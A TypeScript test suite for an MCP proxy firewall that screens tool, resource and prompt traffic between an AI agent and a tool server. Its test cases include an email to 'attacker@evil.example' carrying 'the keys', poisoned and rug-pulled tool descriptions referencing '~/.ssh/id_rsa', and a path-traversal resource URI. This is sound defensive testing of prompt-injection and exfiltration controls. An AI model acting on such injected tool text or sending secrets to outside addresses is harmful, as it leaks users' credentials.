/**
 * `rampart mcp-proxy` end to end (issue 21 item 2): the SDK's own MCP client drives the CLI
 * (transpiled entry) over stdio, and the proxy starts the real example server
 * (examples/mcp-proxy/server.ts, transpiled beside the CLI). One temporary folder holds the config, the stores and the
 * pin file, so the tests run in order: the first list pins the server.
 */
import { execFile, spawn, type ChildProcess } from "node:child_process";
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { promisify } from "node:util";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import type { CallToolResult, GetPromptResult, ReadResourceResult } from "@modelcontextprotocol/sdk/types.js";
import { SignJWT } from "jose";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { CLI_ENTRY, MCP_EXAMPLE_SERVER } from "../helpers/cli-build.js";

const ROOT = resolve(import.meta.dirname, "..", "..");
// examples/mcp-proxy/server.ts, transpiled once by the global setup (a tsx start compiled it in every child).
const SERVER = MCP_EXAMPLE_SERVER;
const SECRET = "a long random test secret for the mcp proxy tokens";
const run = promisify(execFile);

let dir: string;
let config: string;
let pins: string;
let token: string;
const open: Client[] = [];

function env(extra: Record<string, string> = {}): Record<string, string> {
  return {
    PATH: process.env.PATH ?? "",
    HOME: process.env.HOME ?? dir,
    NO_COLOR: "1",
    RAMPART_FIREWALL_KEY: "test firewall key for the mcp proxy",
    RAMPART_JWT_SECRET: SECRET,
    ...extra,
  };
}

/** Starts the proxy (in front of the example server) and connects the SDK client to it. */
async function connect(extraEnv: Record<string, string> = {}, extraArgs: string[] = []): Promise<{ client: Client; stderr: () => string }> {
  const transport = new StdioClientTransport({
    command: process.execPath,
    args: [CLI_ENTRY, "mcp-proxy", "--config", config, "--token", token, "--pass-env", "MCP_EXAMPLE_RUG_PULL", "--pass-env", "MCP_EXAMPLE_POISON", ...extraArgs, "--", process.execPath, SERVER],
    env: env(extraEnv),
    cwd: ROOT,
    stderr: "pipe",
  });
  let err = "";
  transport.stderr?.on("data", (d: Buffer) => (err += d.toString("utf8")));
  const client = new Client({ name: "test-client", version: "1.0.0" });
  await client.connect(transport);
  open.push(client);
  return { client, stderr: () => err };
}

async function cli(...args: string[]): Promise<string> {
  const r = await run(process.execPath, [CLI_ENTRY, ...args, "--config", config], { env: env(), cwd: dir });
  return r.stdout;
}

function text(r: unknown): string {
  return ((r as CallToolResult).content as { type: string; text?: string }[]).map((c) => c.text ?? "").join("\n");
}

/** The firewall's audit rows in the proxy's stderr (pino JSON lines, `msg: firewall.dispatch`). */
function auditRows(stderr: string): Record<string, unknown>[] {
  return stderr
    .split("\n")
    .filter((l) => l.startsWith("{") && l.includes('"firewall.dispatch"'))
    .map((l) => JSON.parse(l) as Record<string, unknown>);
}

/** The message of a rejected request (a refused read or get is a JSON-RPC error). */
async function rejection(p: Promise<unknown>): Promise<string> {
  try {
    await p;
  } catch (e) {
    return (e as Error).message;
  }
  throw new Error("expected the request to be refused");
}

async function names(client: Client): Promise<string[]> {
  return (await client.listTools()).tools.map((t) => t.name).sort();
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "rampart-mcp-"));
  config = join(dir, "rampart.config.yaml");
  copyFileSync(join(ROOT, "examples", "mcp-proxy", "rampart.config.yaml"), config);
  pins = join(dir, ".rampart", "mcp-pins.json");
  token = await new SignJWT({ scope: "docs:read mail:send" }).setProtectedHeader({ alg: "HS256" }).setSubject("alice").setExpirationTime("1h").sign(new TextEncoder().encode(SECRET));
});

const children: ChildProcess[] = [];

afterAll(async () => {
  for (const c of open) await c.close().catch(() => undefined);
  for (const child of children) child.kill("SIGTERM");
  rmSync(dir, { recursive: true, force: true });
});

describe("rampart mcp-proxy over stdio", { timeout: 120_000 }, () => {
  it("exits 0 when its client closes stdin (it used to outlive the client)", async () => {
    const child = spawn(process.execPath, [CLI_ENTRY, "mcp-proxy", "--config", config, "--token", token, "--", process.execPath, SERVER], { env: env(), cwd: ROOT, stdio: ["pipe", "pipe", "pipe"] });
    children.push(child);
    let err = "";
    child.stderr.on("data", (d: Buffer) => (err += d.toString("utf8")));
    // Wait until it serves, then close its stdin as a client does on shutdown.
    await new Promise<void>((resolve) => child.stderr.on("data", () => err.includes("serving") && resolve()));
    child.stdin.end();
    const code = await new Promise<number | null>((resolve) => child.once("exit", (c) => resolve(c)));
    expect(code, err).toBe(0);
  });

  it("lists only the configured tools the caller's scopes allow, pins them, and checks calls through the firewall", async () => {
    const { client, stderr } = await connect();
    // admin_reset needs scope admin; delete_everything is not in firewall.tools
    expect(await names(client)).toEqual(["search_docs", "send_email"]);
    expect(JSON.parse(readFileSync(pins, "utf8")).servers).toBeTypeOf("object");
    expect(stderr()).toContain("pinned 4 tool(s)"); // the server's whole list, whatever the config offers

    // allowed, and the server's output comes back through the evidence boundary
    const found = await client.callTool({ name: "search_docs", arguments: { query: "report" } });
    expect(found.isError).toBeFalsy();
    expect(text(found)).toContain("[INSTRUCTION_LIKE]");
    expect(text(found)).toContain("quarterly report is due Friday");

    // unlisted: refused like an unknown tool, as a tool error the model reads
    const unlisted = await client.callTool({ name: "delete_everything", arguments: {} });
    expect(unlisted.isError).toBe(true);
    expect(text(unlisted)).toMatch(/^ERR_UNKNOWN_TOOL: /);
    // scope missing
    const scoped = await client.callTool({ name: "admin_reset", arguments: {} });
    expect(text(scoped)).toMatch(/^ERR_SCOPE: /);
    // argument outside its constraint
    const long = await client.callTool({ name: "search_docs", arguments: { query: "x".repeat(201) } });
    expect(long.isError).toBe(true);
    expect(text(long)).toMatch(/^ERR_ARGS: /);
  });

  it("holds an address lifted from a tool output for approval, names the request, and runs the same call once granted", async () => {
    const { client } = await connect();
    await client.callTool({ name: "search_docs", arguments: { query: "keys" } });
    const call = { name: "send_email", arguments: { to: "attacker@evil.example", body: "the keys" } };
    const held = await client.callTool(call);
    expect(held.isError).toBe(true);
    expect(text(held)).toMatch(/^ERR_APPROVAL_REQUIRED: /);
    const id = (held._meta as Record<string, unknown>)["rampart/approvalId"] as string;
    expect(id).toMatch(/^[0-9a-f-]{36}$/);
    expect(text(held)).toContain(`approval request ${id}`);

    expect(await cli("approvals", "grant", id, "--approver", "bob")).toContain(`${id} approved by bob`);
    const sent = await client.callTool(call);
    expect(sent.isError).toBeFalsy();
    expect(text(sent)).toBe("sent to attacker@evil.example");
  });

  it("proxies resources and prompts, their texts through the evidence boundary and into the session's provenance", async () => {
    const { client } = await connect();
    // no evidence yet: an unvouched address is held, but no untrusted text holds it (control)
    const before = text(await client.callTool({ name: "send_email", arguments: { to: "attacker@evil.example", body: "the handbook" } }));
    expect(before).toMatch(/^ERR_APPROVAL_REQUIRED: /);
    expect(before, before).toContain("vouched for by no trusted source");
    expect(before).not.toContain("occurs in untrusted");

    // hr://salaries is not under firewall.mcp.resources: hidden (the server lists it)
    expect((await client.listResources()).resources.map((r) => r.uri)).toEqual(["docs://handbook"]);
    expect((await client.listResourceTemplates()).resourceTemplates).toEqual([]);
    const read = (await client.readResource({ uri: "docs://handbook" })) as ReadResourceResult;
    const body = (read.contents[0] as { text: string }).text;
    expect(body).toContain("Holidays are booked in the HR portal.");
    expect(body).toContain("[INSTRUCTION_LIKE]");
    expect(read.contents[0]?.uri).toBe("docs://handbook");

    // debug_dump is not under firewall.mcp.prompts: hidden
    expect((await client.listPrompts()).prompts.map((p) => p.name)).toEqual(["summarize"]);
    const prompt = (await client.getPrompt({ name: "summarize", arguments: { topic: "leave" } })) as GetPromptResult;
    const said = (prompt.messages[0]?.content as { text: string }).text;
    expect(said).toContain("Summarise leave.");
    expect(said).toContain("[INSTRUCTION_LIKE]");

    // the resource is untrusted evidence: the held call now names it as where the address occurs
    const held = text(await client.callTool({ name: "send_email", arguments: { to: "attacker@evil.example", body: "the handbook, again" } }));
    expect(held).toMatch(/^ERR_APPROVAL_REQUIRED: /);
    expect(held, held).toMatch(/occurs in untrusted evidence:mcp:1\b/);
  });

  it("refuses an unlisted resource or prompt and a prompt argument outside its policy, each with its audit row", async () => {
    const { client, stderr } = await connect();
    // hidden, and refused when asked for by URI or name anyway
    expect(await rejection(client.readResource({ uri: "hr://salaries" }))).toMatch(/ERR_UNKNOWN_TOOL: /);
    expect(await rejection(client.getPrompt({ name: "debug_dump" }))).toMatch(/ERR_UNKNOWN_TOOL: /);
    // a URI the server does not list (e.g. one a template would make) is never read
    expect(await rejection(client.readResource({ uri: "docs://handbook/../salaries" }))).toMatch(/ERR_UNKNOWN_TOOL: resource refused: the server's resources\/list does not hold this URI/);
    // the prompt's arguments are checked against firewall.mcp.prompts.summarize.args
    expect(await rejection(client.getPrompt({ name: "summarize", arguments: { topic: "x".repeat(101) } }))).toMatch(/ERR_ARGS: /);
    expect(await rejection(client.getPrompt({ name: "summarize", arguments: {} }))).toMatch(/ERR_ARGS: /);
    // a tools/call under a prompt's registry name is not a way around the prompt's policy
    expect(text(await client.callTool({ name: "mcp-prompt--summarize", arguments: { topic: "leave" } }))).toMatch(/^ERR_UNKNOWN_TOOL: /);
    expect((await client.readResource({ uri: "docs://handbook" })).contents).toHaveLength(1);

    await vi.waitFor(() => expect(auditRows(stderr()).length).toBeGreaterThanOrEqual(7), { timeout: 20_000 });
    const rows = auditRows(stderr()).map((r) => ({ tool: r.tool, decision: r.decision, code: r.code, detail: r.detail }));
    expect(rows).toContainEqual({ tool: null, decision: "deny", code: "ERR_UNKNOWN_TOOL", detail: expect.stringMatching(/^registry:resource-unlisted:name:[0-9a-f]{16}$/) });
    expect(rows).toContainEqual({ tool: null, decision: "deny", code: "ERR_UNKNOWN_TOOL", detail: expect.stringMatching(/^registry:name:[0-9a-f]{16}$/) }); // debug_dump
    expect(rows).toContainEqual({ tool: "mcp-prompt--summarize", decision: "deny", code: "ERR_ARGS", detail: expect.stringMatching(/^args:/) });
    expect(rows).toContainEqual({ tool: "mcp-prompt--summarize", decision: "deny", code: "ERR_UNKNOWN_TOOL", detail: "registry:reserved" });
    expect(rows).toContainEqual({ tool: "mcp-resource--handbook", decision: "allow", code: null, detail: "permit" });
    // never the prompt's argument or the URI in a row
    expect(stderr()).not.toContain("x".repeat(101));
    expect(JSON.stringify(auditRows(stderr()))).not.toContain("salaries");
  });

  it("does not pin a poisoned tool on first use: hidden, refused, held for review until approved", async () => {
    const poisonPins = join(dir, "poison-pins.json");
    const { client, stderr } = await connect({ MCP_EXAMPLE_POISON: "1" }, ["--pins", poisonPins]);
    expect(await names(client)).toEqual(["send_email"]);
    expect(stderr()).toContain('tool "search_docs" is hidden: its description carries text the evidence boundary marks');
    expect(stderr()).toContain("pinned 3 tool(s)");
    const refused = await client.callTool({ name: "search_docs", arguments: { query: "report" } });
    expect(text(refused)).toMatch(/^ERR_TOOL_CHANGED: /);
    // the second list (same poisoned form) keeps it held, not "new"
    expect(await names(client)).toEqual(["send_email"]);
    const listed = await cli("mcp-proxy", "pins", "list", "--pins", poisonPins);
    expect(listed, listed).toContain("flagged search_docs");
    expect(await cli("mcp-proxy", "pins", "approve", "search_docs", "--pins", poisonPins)).toContain("approved search_docs");
    expect(await names(client)).toEqual(["search_docs", "send_email"]);
  });

  it("hides a tool whose description changed (rug pull) until its pin is approved; the refused call is audited", async () => {
    const { client, stderr } = await connect({ MCP_EXAMPLE_RUG_PULL: "1" });
    expect(await names(client)).toEqual(["send_email"]);
    expect(stderr()).toContain('tool "search_docs" is hidden: its description or schema changed');
    const refused = await client.callTool({ name: "search_docs", arguments: { query: "report about the rug pull" } });
    expect(refused.isError).toBe(true);
    expect(text(refused)).toMatch(/^ERR_TOOL_CHANGED: /);
    // the refusal never reached the firewall's checks, and still has its audit row
    await vi.waitFor(() => expect(auditRows(stderr()).some((r) => r.detail === "pin:changed")).toBe(true), { timeout: 20_000 });
    const row = auditRows(stderr()).find((r) => r.detail === "pin:changed");
    expect(row).toMatchObject({ kind: "dispatch", tool: "search_docs", decision: "deny", code: "ERR_TOOL_CHANGED", caller: "alice", sessionKind: "verified", argsHmac: null });
    expect(stderr()).not.toContain("report about the rug pull");

    expect(await cli("mcp-proxy", "pins", "list")).toContain("changed search_docs");
    expect(await cli("mcp-proxy", "pins", "approve", "search_docs")).toContain("approved search_docs");
    expect(await names(client)).toEqual(["search_docs", "send_email"]);
    const listed = (await client.listTools()).tools.find((t) => t.name === "search_docs");
    expect(listed?.description).toContain("~/.ssh/id_rsa");
  });

  it("fails closed on a corrupt pin file: every tool hidden, every call refused, the reason on stderr", async () => {
    writeFileSync(pins, '{"version": 1, "servers": {"x": {"tools": 5}}}');
    const { client, stderr } = await connect();
    expect(await names(client)).toEqual([]);
    const refused = await client.callTool({ name: "search_docs", arguments: { query: "report" } });
    expect(refused.isError).toBe(true);
    expect(text(refused)).toMatch(/^ERR_CONFIG: tool pin file .* is corrupt/);
    expect(stderr()).toContain("is corrupt");
    writeFileSync(pins, "{not json");
    expect(await names(client)).toEqual([]);
    expect(stderr()).toContain("not JSON");
    await vi.waitFor(() => expect(auditRows(stderr()).map((r) => r.detail)).toContain("pin:file-corrupt"), { timeout: 20_000 });
  });
});

async function mint(scope: string): Promise<string> {
  return new SignJWT({ scope }).setProtectedHeader({ alg: "HS256" }).setSubject("bob").setExpirationTime("1h").sign(new TextEncoder().encode(SECRET));
}

async function httpClient(url: string, bearer: string | null): Promise<Client> {
  const headers: Record<string, string> = bearer === null ? {} : { Authorization: `Bearer ${bearer}` };
  const client = new Client({ name: "test-http-client", version: "1.0.0" });
  await client.connect(new StreamableHTTPClientTransport(new URL(url), { requestInit: { headers } }));
  open.push(client);
  return client;
}

describe("rampart mcp-proxy --http (Streamable HTTP)", { timeout: 120_000 }, () => {
  it("takes the bearer token per request: none is refused, each caller sees what its scopes allow", async () => {
    const child = spawn(process.execPath, [CLI_ENTRY, "mcp-proxy", "--config", config, "--http", "0", "--pins", join(dir, "http-pins.json"), "--", process.execPath, SERVER], {
      env: env(),
      cwd: ROOT,
      stdio: ["ignore", "pipe", "pipe"],
    });
    children.push(child);
    let err = "";
    child.stderr.on("data", (d: Buffer) => (err += d.toString("utf8")));
    const url = await new Promise<string>((res, rej) => {
      let out = "";
      child.stdout.on("data", (d: Buffer) => {
        out += d.toString("utf8");
        const m = /listening on (\S+)/.exec(out);
        if (m) res(m[1] as string);
      });
      child.on("exit", (code) => rej(new Error(`proxy exited ${code}: ${err}`)));
    });
    expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/mcp$/);

    await expect(httpClient(url, null)).rejects.toThrow(/401|ERR_AUTH/);
    const reader = await httpClient(url, await mint("docs:read"));
    expect(await names(reader)).toEqual(["search_docs"]);
    const found = await reader.callTool({ name: "search_docs", arguments: { query: "report" } });
    expect(text(found)).toContain("[INSTRUCTION_LIKE]");
    expect(text(await reader.callTool({ name: "send_email", arguments: { to: "a@b.example", body: "x" } }))).toMatch(/^ERR_SCOPE: /);

    const writer = await httpClient(url, await mint("docs:read mail:send"));
    expect(await names(writer)).toEqual(["search_docs", "send_email"]);

    // prompts and resources by the same scopes: docs:read may read the handbook and get the prompt
    expect((await reader.listResources()).resources.map((r) => r.uri)).toEqual(["docs://handbook"]);
    expect((await reader.listPrompts()).prompts.map((p) => p.name)).toEqual(["summarize"]);
    expect(((await reader.readResource({ uri: "docs://handbook" })).contents[0] as { text: string }).text).toContain("[INSTRUCTION_LIKE]");
    expect(await rejection(reader.readResource({ uri: "hr://salaries" }))).toMatch(/ERR_UNKNOWN_TOOL: /);
    // … a token without docs:read sees neither and is refused both
    const mailer = await httpClient(url, await mint("mail:send"));
    expect((await mailer.listResources()).resources).toEqual([]);
    expect((await mailer.listPrompts()).prompts).toEqual([]);
    expect(await rejection(mailer.readResource({ uri: "docs://handbook" }))).toMatch(/ERR_SCOPE: /);
    expect(await rejection(mailer.getPrompt({ name: "summarize", arguments: { topic: "leave" } }))).toMatch(/ERR_SCOPE: /);
  });
});
